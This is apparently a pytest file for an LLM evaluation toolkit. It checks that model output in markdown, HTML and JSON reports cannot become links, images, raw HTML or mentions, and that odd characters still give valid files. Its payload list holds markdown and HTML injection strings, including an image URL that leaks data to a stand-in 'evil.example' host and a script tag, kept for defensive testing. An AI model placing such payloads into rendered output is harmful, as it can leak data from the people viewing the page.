"""Model text is inert in every report format.

report.md is pasted into PR comments and CI step summaries: no text that is not ours (model
output, sample input and expected, ids, error messages) may become a link, an image (its URL
would be fetched by whoever views the page: a data leak), raw HTML, a comment, an @mention or
an issue reference there. report.json must be strict JSON, and every report must be written,
whatever the text holds (lone surrogates, NUL, U+2028, NaN).
"""

from __future__ import annotations

import html
import json
import math
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pydantic_core
import pytest
from evalkit import failed, load, make_run, ok, sample

from lm_eval_so._internal.common.records import DatasetSample, ErrorInfo, RunResult, ScoreRecord, Summary
from lm_eval_so._internal.evaluator import evaluate_run
from lm_eval_so._internal.evaluator.reports.base import ReportData, RowList, SampleRow
from lm_eval_so._internal.evaluator.reports.html_report import HtmlReporter
from lm_eval_so._internal.evaluator.reports.json_report import JsonReporter
from lm_eval_so._internal.evaluator.reports.markdown_report import MarkdownReporter, cell

# (payload, what must never appear outside a code span once rendered)
PAYLOADS = [
    ("![x](https://evil.example/leak.png?d=secret)", "https:"),
    ("[click](javascript:alert(1))", "javascript:"),
    ('<img src="https://evil.example/p.png">', "https:"),
    ("<https://evil.example/autolink>", "https:"),
    ("see https://evil.example/bare for details", "https:"),
    ("visit www.evil.example today", "www."),
    ("mail root@evil.example now", "@evil"),
    ("cc @octocat and @github/security", "@octocat"),
    ("fixes #123 and org/repo#9", "#1"),
    ("see GH-123", "GH-"),
    ("commit 3f2a9c1d8e7b", "3f2a9c1"),
    ("<!-- hidden --> after a comment", "<!--"),
    ("<script>alert(1)</script>", None),  # shown as text, never a tag (see the tag check)
    ("[ref]: https://evil.example/def", "https:"),
    ("a `tick` and ``two`` and | pipe ![i](https://evil.example/x.png)", "https:"),
    ("trailing backslash \\", None),
    ("**bold** _em_ ~~strike~~", None),
]


def _markdown_parsers() -> list[Any]:
    """Every CommonMark-ish renderer installed: markdown-it-py (GFM tables, as GitHub reads
    them), Python-Markdown (comes with mkdocs, the [docs] extra)."""
    parsers: list[Any] = []
    try:
        from markdown_it import MarkdownIt

        parsers.append(pytest.param(MarkdownIt("commonmark").enable("table").render, id="markdown-it"))
    except ImportError:
        pass
    try:
        import markdown

        parsers.append(
            pytest.param(lambda text: markdown.markdown(text, extensions=["tables"]), id="python-markdown")
        )
    except ImportError:
        pass
    if not parsers:
        parsers.append(pytest.param(None, marks=pytest.mark.skip(reason="no Markdown renderer installed")))
    return parsers


class Rendered(HTMLParser):
    """The tags of a rendered page, its comments, and its text outside <code>."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.comments: list[str] = []
        self.code: list[str] = []
        self.outside: list[str] = []
        self._in_code = 0
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        if tag == "code":
            self._in_code += 1
            self.code.append("")

    def handle_endtag(self, tag: str) -> None:
        if tag == "code":
            self._in_code -= 1

    def handle_data(self, data: str) -> None:
        if self._in_code:
            self.code[-1] += data
        else:
            self.outside.append(data)

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


def _summary(tmp_path: Path) -> Summary:
    built = make_run(tmp_path, [sample("a")], [ok("a", "a")])
    return evaluate_run(load("  metrics:\n    - type: exact_match\n", tmp_path), built.run, built.dataset)


@pytest.mark.parametrize("render", _markdown_parsers())
@pytest.mark.parametrize(("payload", "forbidden"), PAYLOADS, ids=[p for p, _ in PAYLOADS])
def test_markdown_never_links_embeds_or_mentions_from_model_text(
    tmp_path: Path, render: Any, payload: str, forbidden: str | None
) -> None:
    # The payload everywhere a text that is not ours can go: id, input, expected, output, error.
    samples = [
        sample(payload[:40], input=payload, expected=payload + " expected"),
        sample("err", input=payload, expected=payload),
    ]
    results = [ok(payload[:40], payload), failed("err", kind="ServerError", message=payload)]
    built = make_run(tmp_path, samples, results)
    config = load("  metrics:\n    - type: contains\n  report: {formats: [markdown]}\n", tmp_path)
    evaluate_run(config, built.run, built.dataset)
    md = (built.run.path / "report.md").read_text(encoding="utf-8")
    page = Rendered(render(md))
    # Only our own structure: no link, image, raw HTML or comment from the payload.
    assert page.tags <= {"h2", "h3", "p", "table", "thead", "tbody", "tr", "th", "td", "code"}
    assert page.comments == []
    outside = "".join(page.outside)
    if forbidden is not None:
        # GitHub links bare URLs, @mentions, #refs and hashes in text, never inside <code>.
        assert forbidden not in outside
    # The payload is shown, as written, in a code span (GFM unescapes "\|" in table cells).
    shown = " ".join(payload.split())[:59]
    assert any(shown in code.replace("\\|", "|") for code in page.code) or shown in outside


@pytest.mark.parametrize(("payload", "forbidden"), PAYLOADS, ids=[p for p, _ in PAYLOADS])
def test_markdown_cell_is_plain_text_or_one_code_span(payload: str, forbidden: str | None) -> None:
    text = cell(payload, width=200)
    if text.startswith("`"):
        fence = re.match(r"`+", text)
        assert fence is not None and text.endswith(fence.group())
        inner = text[len(fence.group()) : -len(fence.group())]
        assert fence.group() not in inner  # no backtick run inside can close the span early
        assert inner.strip() == " ".join(payload.split()).replace("|", "\\|")
    else:
        assert forbidden is None or forbidden not in html.unescape(text)
        assert "<" not in text and "[" not in text and "@" not in text


def test_plain_words_stay_plain_in_markdown() -> None:
    assert cell("exact_match>=0.9") == "exact_match&gt;=0.9"
    assert cell("bad|pipe") == "bad\\|pipe"
    assert cell("<b>bold</b>\nnext line") == "&lt;b&gt;bold&lt;/b&gt; next line"
    assert cell("x" * 100, width=10) == "x" * 9 + "…"
    assert cell("a `b` c") == "``a `b` c``"
    assert cell("`edge`") == "`` `edge` ``"


# --------------------------------------------------------------------------- odd characters

ODD = {
    "lone": "before \ud800 after",
    "pair": "emoji as a surrogate pair \ud83d\ude00",
    "nul": "nul \x00 and bell \x07",
    "separators": "line\u2028para\u2029end",
}


def _odd_row() -> SampleRow:
    sample_ = DatasetSample(id="odd \udfff", input=ODD["nul"], expected=[ODD["separators"]], messages=[])
    result = RunResult.model_construct(
        sample_id="odd \udfff",
        repeat=0,
        output=ODD["lone"],
        error=None,
        latency_ms=math.nan,
        cost_usd=math.inf,
        cached=False,
    )
    scores = {"exact_match": ScoreRecord(sample_id="odd", metric="exact_match", score=math.nan, passed=False)}
    return SampleRow(sample_, result, scores)


def _errored_row() -> SampleRow:
    error = ErrorInfo(type="Bad\ud800Type", message=ODD["pair"])
    result = RunResult(sample_id="e", error=error, latency_ms=1.0)
    return SampleRow(DatasetSample(id="e", input="q", messages=[]), result, {})


def test_report_json_is_strict_json_whatever_the_text(tmp_path: Path) -> None:
    data = ReportData(_summary(tmp_path), RowList([_odd_row(), _errored_row()]), {"note": ODD["lone"]})
    path = tmp_path / "report.json"
    JsonReporter().write(data, path)
    raw = path.read_bytes()
    raw.decode("utf-8")  # valid UTF-8 (a lone surrogate cannot be encoded)

    def no_constants(name: str) -> None:
        raise AssertionError(f"not JSON: {name}")

    report = json.loads(raw, parse_constant=no_constants)  # no NaN / Infinity
    assert pydantic_core.from_json(raw) == report  # a strict parser agrees
    odd, errored = report["samples"]
    assert odd["output"] == "before \ufffd after"  # what any UTF-8 reader would show
    assert odd["id"] == "odd \ufffd"
    assert odd["input"] == ODD["nul"]  # NUL and BEL kept, escaped
    assert odd["expected"] == [ODD["separators"]]  # kept exactly...
    assert "\u2028".encode() not in raw and b"\\u2028" in raw  # ...but escaped in the file
    assert odd["latency_ms"] is None and odd["cost_usd"] is None  # unknown, not NaN
    assert odd["scores"]["exact_match"] == {"score": None, "passed": False}
    assert errored["error"]["type"] == "Bad\ufffdType"
    assert errored["error"]["message"] == "emoji as a surrogate pair \U0001f600"  # a pair is joined
    assert report["run"]["note"] == "before \ufffd after"


def test_html_and_markdown_are_written_whatever_the_text(tmp_path: Path) -> None:
    data = ReportData(_summary(tmp_path), RowList([_odd_row(), _errored_row()]), {})
    HtmlReporter().write(data, tmp_path / "report.html")
    MarkdownReporter().write(data, tmp_path / "report.md")
    page = (tmp_path / "report.html").read_text(encoding="utf-8")
    md = (tmp_path / "report.md").read_text(encoding="utf-8")
    assert "before \ufffd after" in page and "\x00" not in page and "nul \u2400 and bell \u2407" in page
    assert "before \ufffd after" in md and "odd \ufffd" in md
    assert "\x00" not in md and "\u2028" not in md


def test_odd_characters_survive_a_whole_run(tmp_path: Path) -> None:
    """Through run files (which cannot hold a lone surrogate): NUL, U+2028 and markup."""
    text = "nul\x00 sep\u2028 <b>&amp;</b> ![x](https://evil.example/i.png)"
    built = make_run(tmp_path, [sample("a", input=text, expected=text)], [ok("a", text + "!")])
    config = load(
        "  metrics:\n    - type: exact_match\n  report: {formats: [json, html, markdown]}\n", tmp_path
    )
    evaluate_run(config, built.run, built.dataset)
    report = json.loads((built.run.path / "report.json").read_text(encoding="utf-8"))
    assert report["samples"][0]["output"] == text + "!"
    md = (built.run.path / "report.md").read_text(encoding="utf-8")
    assert "`nul␀ sep <b>&amp;</b> ![x](https://evil.example/i.png)!`" in md
